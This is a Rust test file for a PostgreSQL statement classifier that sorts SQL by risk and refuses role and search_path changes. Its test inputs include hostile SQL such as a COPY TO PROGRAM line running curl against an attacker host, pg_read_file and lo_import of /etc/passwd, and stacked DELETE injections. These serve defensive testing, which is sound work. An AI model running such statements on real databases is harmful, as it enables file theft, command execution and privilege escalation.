//! The classifier on its own: hundreds of statements, the classification cases of
//! shared/security/adversarial-sql.md, and generated input.

use StatementKind::*;
use gatehouse_core::classify::{Classification, StatementKind};
use gatehouse_pgsql::classify_reference;
use gatehouse_pgsql::masking::{MaskedRelation, check_reference};

/// Classifies with the streaming walker, and checks it agrees with the reference walker, and
/// that the masking check made in the same walk agrees with its reference.
fn classify(sql: &str) -> Classification {
    let streamed = gatehouse_pgsql::classify(sql);
    assert_eq!(
        streamed,
        classify_reference(sql),
        "walkers disagree on {sql:?}"
    );
    if let Err(disagreement) = masking_checks_agree(sql) {
        panic!("{disagreement}");
    }
    streamed
}

/// Relations with masked columns, named like the tables the statements here use.
fn masked() -> Vec<MaskedRelation> {
    let relation = |table: &str, columns: &[&str]| MaskedRelation {
        schema: "public".into(),
        table: table.into(),
        columns: columns.iter().map(|c| c.to_string()).collect(),
    };
    vec![
        relation("users", &["ssn", "email"]),
        relation("orders", &["card", "id"]),
        relation("t", &["x", "a"]),
        relation("a", &["id"]),
        relation("accounts", &["balance"]),
    ]
}

/// The masking check made during classification (`classify_and_check`, the simple protocol's
/// path, and `masking::check`) against the reference check on the JSON tree.
fn masking_checks_agree(sql: &str) -> Result<(), String> {
    let masked = masked();
    let (classification, combined) = gatehouse_pgsql::classify_and_check(sql, &masked);
    if classification != gatehouse_pgsql::classify(sql) {
        return Err(format!("classify_and_check classifies {sql:?} differently"));
    }
    if let Classification::Statements { .. } = classification {
        let reference = check_reference(sql, &masked);
        let alone = gatehouse_pgsql::masking::check(sql, &masked);
        if combined.is_ok() != reference.is_ok() || alone.is_ok() != reference.is_ok() {
            return Err(format!(
                "masking checks disagree on {sql:?}: walk {combined:?}, alone {alone:?}, reference {reference:?}"
            ));
        }
    }
    Ok(())
}

/// The kind of every statement in `sql`, or the refusal reason.
fn kinds(sql: &str) -> Result<Vec<StatementKind>, String> {
    match classify(sql) {
        Classification::Statements { statements } => {
            Ok(statements.iter().map(|s| s.kind).collect())
        }
        Classification::Refused { reason } => Err(reason),
    }
}

fn kind(sql: &str) -> StatementKind {
    let k = kinds(sql).unwrap_or_else(|r| panic!("{sql}: refused: {r}"));
    assert_eq!(k.len(), 1, "{sql}");
    k[0]
}

fn refused(sql: &str) -> String {
    kinds(sql).expect_err(&format!("{sql} must be refused"))
}

fn relations(sql: &str) -> Vec<String> {
    classify(sql)
        .statements()
        .iter()
        .flat_map(|s| s.relations.clone())
        .collect()
}

#[test]
fn reads() {
    for sql in [
        "select 1",
        "SELECT * FROM orders",
        "select a.id, b.x from a join b using (id) where a.y > 3 order by 1 limit 10",
        "select count(*), sum(x), avg(x) from t group by y having count(*) > 1",
        "with recent as (select * from orders where ts > now() - interval '1 day') select * from recent",
        "select * from (select 1) s",
        "select exists (select 1 from t)",
        "select x from t union all select y from u",
        "select lower(name), coalesce(a, b), greatest(1, 2) from t",
        "select row_number() over (partition by a order by b) from t",
        "select jsonb_build_object('a', 1)",
        "select '{1,2}'::int[]",
        "select generate_series(1, 10)",
        "values (1), (2)",
        "show search_path",
        "show all",
        "explain select * from t",
        "copy t to stdout",
        "copy (select * from t) to stdout with (format csv)",
        "fetch all from c",
        "close c",
        "declare c cursor for select * from t",
        "select pg_catalog.format_type(1, 2)",
        "select current_user, version()",
        "select abalance from pgbench_accounts where aid = $1",
        "select * from t where id = any($1)",
        "table t",
        "select 'DELETE FROM orders'",
        "select $$ ; delete from orders $$",
        "/* DELETE */ select 1",
        "select 1 -- ; delete from orders",
    ] {
        assert_eq!(kind(sql), Read, "{sql}");
    }
}

#[test]
fn writes() {
    for sql in [
        "insert into t values (1)",
        "insert into t select * from u",
        "update t set x = 1 where id = 2",
        "delete from t",
        "merge into t using u on t.id = u.id when matched then update set x = u.x",
        "copy t from stdin",
        "select * into stash from users",
        "create temp table x as select 1",
        "select * from t for update",
        "select * from t for share",
        "select nextval('s')",
        "select setval('s', 1)",
        "lock table t",
        "notify chan, 'x'",
        "refresh materialized view mv",
        "with d as (delete from orders returning *) select count(*) from d",
        "with i as (insert into t values (1) returning id) select * from i",
        "explain analyze delete from orders",
        "explain delete from orders",
        "insert into t values (1) on conflict do nothing",
        "update t set x = (select max(y) from u)",
        "prepare p as delete from orders",
        "declare c cursor for select * from t for update",
    ] {
        assert!(
            kind(sql) >= Write,
            "{sql} must be at least a write, got {:?}",
            kind(sql)
        );
    }
    // Writes that are more than writes.
    assert_eq!(kind("create table x as select 1"), Ddl);
    assert_eq!(kind("select * into stash from users"), Write);
}

#[test]
fn ddl() {
    for sql in [
        "create table t (id int)",
        "alter table t add column x int",
        "drop table t",
        "drop table if exists t cascade",
        "create index on t (x)",
        "create view v as select 1",
        "create sequence s",
        "create function f() returns int language sql as 'select 1'",
        "truncate t",
        "create schema s",
        "comment on table t is 'x'",
        "alter table t rename to u",
        "create type e as enum ('a')",
        "create trigger tr after insert on t for each row execute function f()",
        "alter table t owner to postgres",
    ] {
        assert_eq!(kind(sql), Ddl, "{sql}");
    }
}

#[test]
fn admin() {
    for sql in [
        "create role r",
        "alter role app superuser",
        "drop role r",
        "grant select on t to public",
        "revoke all on t from app",
        "alter system set log_statement = 'none'",
        "create database d",
        "drop database d",
        "vacuum t",
        "analyze t",
        "cluster t using i",
        "reindex table t",
        "checkpoint",
        "load 'x'",
        "create extension dblink",
        "select pg_terminate_backend(pid) from pg_stat_activity",
        "select pg_reload_conf()",
        "select pg_read_file('/etc/passwd')",
        "select pg_ls_dir('.')",
        "select pg_read_binary_file('x')",
        "select pg_catalog.pg_read_file('/etc/passwd')",
        "select pg_stat_reset()",
        "select pg_catalog.pg_stat_reset()",
        "select pg_catalog.pg_stat_reset_shared('bgwriter')",
        "select pg_catalog.pg_stat_reset_single_table_counters(16384)",
        "select pg_catalog.pg_wal_replay_pause()",
        "select pg_stat_statements_reset()",
        "select lo_import('/etc/passwd')",
        "select lo_export(1, '/tmp/x')",
        "select * from dblink('host=evil', 'select 1') as t(x int)",
        "select query_to_xml('delete from orders', true, false, '')",
        "copy (select 1) to program 'curl http://attacker/'",
        "copy users to '/tmp/u.csv'",
        "copy orders from '/tmp/x.csv'",
        "security label on table t is 'x'",
        "create subscription s connection 'x' publication p",
    ] {
        assert_eq!(kind(sql), Admin, "{sql}");
    }
}

#[test]
fn code_execution() {
    for sql in [
        "do $$ begin execute 'del' || 'ete from orders'; end $$",
        "call archive_orders()",
        "select purge_old_orders()",
        "select public.lower('x')",
        "select myschema.f()",
        "execute p", // without its PREPARE in view
        "select * from my_set_returning_function()",
    ] {
        assert_eq!(kind(sql), Exec, "{sql}");
    }
}

/// Which commands may reach the server while their audit intent is still being synced
/// (`[audit] overlap_reads`): only those that cannot change anything.
#[test]
fn commands_that_change_nothing() {
    for sql in [
        "select * from orders where id = 1",
        "select count(*), max(total) from orders",
        "with o as (select * from orders) select * from o",
        "show statement_timeout",
        "explain select * from orders",
        "copy orders to stdout",
        "select 1; select 2",
        "declare c cursor for select * from orders",
        "select pg_sleep(0)",
    ] {
        assert!(classify(sql).changes_nothing(), "{sql}");
    }
    for sql in [
        "insert into orders values (1)",
        "select * from orders for update",
        "select * from orders for share",
        "select nextval('s')",
        "select pg_notify('c', 'x')",
        "select pg_advisory_lock(1)",
        "select purge_old_orders()",
        "select * into t2 from orders",
        "with d as (delete from orders returning *) select * from d",
        "explain analyze delete from orders",
        "select 1; delete from orders",
        "fetch 10 from c",
        "move 10 in c",
        "execute p",
        "begin",
        "commit",
        "set statement_timeout = 0",
        "copy orders from stdin",
        "select pg_terminate_backend(1)",
        "select pg_catalog.pg_stat_reset()",
        "",
        "selec 1",
    ] {
        assert!(!classify(sql).changes_nothing(), "{sql}");
    }
}

#[test]
fn sessions_and_transactions() {
    for sql in [
        "set statement_timeout = 1000",
        "set local lock_timeout = '1s'",
        "reset all",
        "reset role",
        "reset search_path",
        "discard all",
        "deallocate all",
        "listen chan",
        "unlisten *",
        "set application_name = 'x'",
        "set timezone = 'UTC'",
    ] {
        assert_eq!(kind(sql), Session, "{sql}");
    }
    for sql in [
        "begin",
        "begin read write",
        "commit",
        "rollback",
        "savepoint s",
        "release savepoint s",
        "rollback to savepoint s",
        "start transaction isolation level serializable",
        "set transaction read write",
        "set constraints all deferred",
    ] {
        assert_eq!(kind(sql), Transaction, "{sql}");
    }
    assert_eq!(
        kind("select set_config('application_name', 'x', false)"),
        Session
    );
}

#[test]
fn identity_and_parsing_settings_cannot_change() {
    for sql in [
        "set role admin",
        "set role none",
        "set session authorization admin",
        "set session authorization default",
        "set search_path = secret, public",
        "set search_path to evil",
        "set local search_path = x",
        "set default_transaction_read_only = off",
        "set session_replication_role = replica",
        "set standard_conforming_strings = off",
        "set client_encoding = 'latin1'",
        "set session characteristics as transaction read write",
        "select set_config('role', 'admin', false)",
        "select set_config('search_path', 'evil', false)",
        "select set_config(current_setting('x'), 'admin', false)",
        "select 1; set role admin",
    ] {
        let reason = refused(sql);
        assert!(reason.contains("not allowed"), "{sql}: {reason}");
    }
}

#[test]
fn unparseable_input_is_refused() {
    for sql in [
        "selec 1",
        "select 1; this is not sql; select 2",
        "delete from",
        "select '",
        "select $$ unterminated",
        "select 1 from t where x = (",
    ] {
        assert!(refused(sql).contains("cannot be parsed"), "{sql}");
    }
}

#[test]
fn stacked_statements_are_each_classified() {
    // Adversarial cases 1, 3, 5, 6.
    assert_eq!(
        kinds("SELECT 1; DELETE FROM orders;").unwrap(),
        vec![Read, Write]
    );
    assert_eq!(
        kinds("SELECT 1 --x\n; DELETE FROM orders").unwrap(),
        vec![Read, Write]
    );
    assert_eq!(
        kinds(r"SELECT E'\''; DELETE FROM orders; --'").unwrap(),
        vec![Read, Write]
    );
    assert_eq!(
        kinds(r"SELECT 'a\'; DELETE FROM orders; --'").unwrap(),
        vec![Read, Write]
    );
    // Case 2: a comment before the verb.
    assert_eq!(kind("/* SELECT */ DELETE FROM orders"), Write);
    assert_eq!(kinds("").unwrap(), vec![]);
    assert_eq!(kinds(";;").unwrap(), vec![]);
}

#[test]
fn relations_are_resolved_and_quoting_is_kept() {
    // Case 9.
    assert_eq!(kind("DeLeTe FROM \"orders\""), Write);
    assert_eq!(relations("DeLeTe FROM \"orders\""), vec!["public.orders"]);
    assert_eq!(relations("SELECT * FROM \"Users\""), vec!["public.Users"]);
    assert_eq!(relations("SELECT * FROM Users"), vec!["public.users"]);
    assert_eq!(
        relations("select * from app.users u join public.orders o on true"),
        vec!["app.users", "public.orders"]
    );
    // A CTE name is not a relation; a qualified name that looks like one is.
    assert_eq!(
        relations("with users as (select 1) select * from users"),
        Vec::<String>::new()
    );
    assert_eq!(
        relations("with users as (select 1) select * from app.users"),
        vec!["app.users"]
    );
    assert_eq!(
        relations("insert into t select * from s"),
        vec!["public.s", "public.t"]
    );
}

#[test]
fn commands_and_functions_are_reported() {
    let c = classify("select lower(name), pg_catalog.now() from t");
    let s = &c.statements()[0];
    assert_eq!(s.command, "SELECT");
    assert_eq!(s.functions, vec!["lower", "pg_catalog.now"]);
    assert_eq!(
        classify("copy t from stdin").statements()[0].command,
        "COPY FROM"
    );
    assert_eq!(
        classify("create table x (a int)").statements()[0].command,
        "CREATE TABLE"
    );
}

mod generated {
    use super::*;
    use proptest::prelude::*;

    const FRAGMENTS: &[&str] = &[
        "select",
        "insert",
        "update",
        "delete",
        "from",
        "into",
        "t",
        "orders",
        "values",
        "(1)",
        "*",
        ";",
        "where",
        "x",
        "=",
        "1",
        "'",
        "$$",
        "--",
        "/*",
        "*/",
        "\n",
        "with",
        "as",
        "(",
        ")",
        "returning",
        "set",
        "role",
        "do",
        "call",
        "f()",
        "copy",
        "stdin",
        "stdout",
        "to",
        "explain",
        "analyze",
        "E'\\''",
        "union",
        "lock",
        "truncate",
        "drop",
        "table",
        "create",
        "begin",
        "commit",
        "nextval('s')",
        "pg_read_file('x')",
        "for update",
        ",",
        "::text",
        "\"Users\"",
        "search_path",
    ];

    fn sql() -> impl Strategy<Value = String> {
        prop::collection::vec(prop::sample::select(FRAGMENTS), 0..14).prop_map(|v| v.join(" "))
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(3000))]

        /// Never panics, on anything, and both walkers agree.
        #[test]
        fn never_panics_on_bytes(s in "\\PC{0,200}") {
            let _ = classify(&s);
        }

        /// The streaming walker and the reference walker agree on SQL-shaped input.
        #[test]
        fn walkers_agree(s in sql()) {
            prop_assert_eq!(gatehouse_pgsql::classify(&s), classify_reference(&s));
            if let Err(disagreement) = masking_checks_agree(&s) {
                prop_assert!(false, "{}", disagreement);
            }
        }

        /// Statements built from SQL fragments: anything that contains a data-changing verb
        /// the parser accepted is never classified as a read.
        #[test]
        fn writes_are_never_reads(s in sql()) {
            if let Classification::Statements { statements } = classify(&s) {
                for st in statements {
                    let cmd = st.command.as_str();
                    if matches!(cmd, "INSERT" | "UPDATE" | "DELETE" | "MERGE" | "COPY FROM" | "TRUNCATE") {
                        prop_assert!(st.kind >= Write, "{s}: {st:?}");
                    }
                }
            }
        }
    }
}
